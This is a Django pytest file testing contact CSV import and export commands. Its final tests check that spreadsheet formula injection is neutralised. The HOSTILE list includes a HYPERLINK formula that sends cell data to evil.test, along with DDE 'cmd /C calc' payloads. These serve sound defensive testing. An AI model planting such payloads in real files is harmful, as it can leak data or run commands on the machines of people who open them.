"""`import_contacts` and `export_contacts`: the API's import from a file, and the streaming CSV export."""

import csv
import json
from io import StringIO

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from accounts.models import Job
from contacts.models import Contact
from segments.tests.test_api_segments import create

pytestmark = pytest.mark.django_db

CSV = """email,subscribed,plan,seats
ann@example.test,true,pro,3
not-an-address,true,free,1
bob@example.test,no,free,
ann@example.test,true,pro,3
"""


def command(*args) -> tuple[int, str]:
    out = StringIO()
    try:
        call_command(*args, stdout=out)
    except CommandError as exc:
        return exc.returncode, out.getvalue()
    return 0, out.getvalue()


@pytest.fixture
def csv_file(tmp_path):
    def write(text: str, name: str = "contacts.csv"):
        path = tmp_path / name
        path.write_text(text)
        return str(path)

    return write


def test_import_reports_failed_rows_and_a_second_run_changes_nothing(project, other_project, csv_file):
    path = csv_file(CSV)
    scope = ("--project", str(project.id))
    status, out = command("import_contacts", *scope, path)
    assert status == 2
    lines = out.splitlines()
    assert lines[0].endswith("4 row(s), 2 created, 0 updated, 0 unchanged, 2 failed")
    assert lines[1:] == [
        "row,email,error",
        "3,not-an-address,Invalid email",
        "5,ann@example.test,Duplicate email in file",
    ]
    job = Job.objects.get()
    assert (job.project_id, job.type, job.status, job.result["createdCount"]) == (
        project.id,
        "CONTACT_IMPORT",
        "COMPLETED",
        2,
    )
    contacts = {c.email: (c.subscribed, c.data) for c in Contact.objects.filter(project=project.project)}
    assert contacts == {
        "ann@example.test": (True, {"plan": "pro", "seats": 3}),
        "bob@example.test": (False, {"plan": "free"}),
    }
    assert not Contact.objects.filter(project=other_project.project).exists()

    status, out = command("import_contacts", *scope, path, "--json")
    result = json.loads(out)
    assert status == 2 and (result["createdCount"], result["updatedCount"], result["unchangedCount"]) == (0, 0, 2)
    assert {c.email: (c.subscribed, c.data) for c in Contact.objects.filter(project=project.project)} == contacts


def test_import_dry_run_writes_nothing(project, csv_file):
    status, out = command("import_contacts", "--project", str(project.id), csv_file(CSV), "--dry-run")
    assert status == 2 and "Dry run: 4 row(s), 2 valid, 2 failed; nothing imported" in out
    assert not Contact.objects.exists() and not Job.objects.exists()
    clean = csv_file("email\nann@example.test\n", "clean.csv")
    assert command("import_contacts", "--project", str(project.id), clean, "--dry-run")[0] == 0


@pytest.mark.parametrize(
    ("text", "message"),
    [("name\nann\n", "needs an email column"), ("", "The file is empty")],
)
def test_import_refuses_a_file_the_api_refuses(project, csv_file, text, message):
    with pytest.raises(CommandError, match=message) as refused:
        call_command("import_contacts", "--project", str(project.id), csv_file(text))
    assert refused.value.returncode == 1 and not Job.objects.exists()


def test_import_of_a_missing_file_or_project(project, tmp_path):
    with pytest.raises(CommandError, match="no such file"):
        call_command("import_contacts", "--project", str(project.id), str(tmp_path / "none.csv"))
    with pytest.raises(CommandError, match=r'^Project "x" not found$'):
        call_command("import_contacts", "--project", "x", str(tmp_path / "none.csv"))


def exported(*args) -> list[list[str]]:
    out = StringIO()
    call_command("export_contacts", *args, stdout=out)
    return list(csv.reader(StringIO(out.getvalue())))


def test_export_writes_one_column_per_data_key(project, other_project):
    Contact.objects.create(project=project.project, email="bob@example.test", subscribed=False, data={"plan": "free"})
    Contact.objects.create(
        project=project.project,
        email="ann@example.test",
        data={"plan": "pro", "seats": 3, "vip": True, "tags": ["a", "b"], "ratio": 0.5},
    )
    Contact.objects.create(project=other_project.project, email="cid@example.test", data={"secret": "x"})
    rows = exported("--project", str(project.id))
    assert rows[0] == ["email", "subscribed", "createdAt", "updatedAt", "plan", "ratio", "seats", "tags", "vip"]
    assert [row[:2] + row[4:] for row in rows[1:]] == [
        ["ann@example.test", "true", "pro", "0.5", "3", '["a","b"]', "true"],
        ["bob@example.test", "false", "free", "", "", "", ""],
    ]
    assert rows[1][2].endswith("Z") and rows[1][3].endswith("Z")


def test_export_in_small_batches_and_of_a_segment(project, secret_client, other_client, tmp_path, settings):
    for index in range(7):
        Contact.objects.create(
            project=project.project, email=f"c{index}@example.test", data={"plan": "pro" if index % 2 else "free"}
        )
    segment = create(secret_client, name="Pro").json()  # plan = pro
    rows = exported("--project", str(project.id), "--segment", segment["id"])
    assert [row[0] for row in rows[1:]] == ["c1@example.test", "c3@example.test", "c5@example.test"]
    output = tmp_path / "all.csv"
    # The CSV goes to the file, and the command says how many rows went there.
    assert exported("--project", str(project.id), "--output", str(output)) == [[f"Wrote 7 contact(s) to {output}"]]
    assert len(output.read_text().splitlines()) == 8
    theirs = create(other_client, name="Theirs").json()
    with pytest.raises(CommandError, match=f'Segment "{theirs["id"]}" not found'):
        call_command("export_contacts", "--project", str(project.id), "--segment", theirs["id"])


def test_export_batches_keep_every_row_once(project):
    from contacts.selectors import contacts_export_rows

    for index in range(5):
        Contact.objects.create(project=project.project, email=f"c{index}@example.test")
    rows = contacts_export_rows(contacts=Contact.objects.filter(project=project.project), keys=[], batch_size=2)
    assert [row[0] for row in rows] == [f"c{index}@example.test" for index in range(5)]


# Contact data a visitor sets with the public key, as it comes out of an export: formulas are text, numbers numbers.
HOSTILE = [
    ("link", '=HYPERLINK("http://evil.test/?x="&A1,"Click")', '\'=HYPERLINK("http://evil.test/?x="&A1,"Click")'),
    ("dde", "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("plus", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("minus", "-2+3", "'-2+3"),
    ("at", "@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
    ("tab", "\t=1+1", "'\t=1+1"),
    ("cr", "\r=1+1", "'\r=1+1"),
    ("negative", "-5", "-5"),
    ("signed", "+3.2", "+3.2"),
    ("exponent", "-1e-3", "-1e-3"),
    ("number", -7, "-7"),
    ("text", "a=b", "a=b"),
]


def test_export_writes_formulas_set_with_the_public_key_as_text(project, public_client):
    data = {key: value for key, value, _ in HOSTILE}
    data["=HEADER()"] = "x"  # a data key is a column header
    response = public_client.post(
        "/v1/track", {"email": "ann@example.test", "event": "visit", "data": data}, format="json"
    )
    assert response.status_code == 200, response.content
    rows = exported("--project", str(project.id))
    header, row = rows[0], rows[1]
    assert "'=HEADER()" in header and "=HEADER()" not in header
    cells = dict(zip(header, row, strict=True))
    assert {key: cells[key] for key, _, _ in HOSTILE} == {key: expected for key, _, expected in HOSTILE}


def test_import_report_writes_a_rejected_formula_as_text(project, csv_file):
    status, out = command("import_contacts", "--project", str(project.id), csv_file("email\n\"=cmd|' /C calc'!A0\"\n"))
    assert status != 0
    report = list(csv.reader(StringIO(out[out.index("row,email,error") :])))
    assert report[1][:2] == ["2", "'=cmd|' /C calc'!A0"]
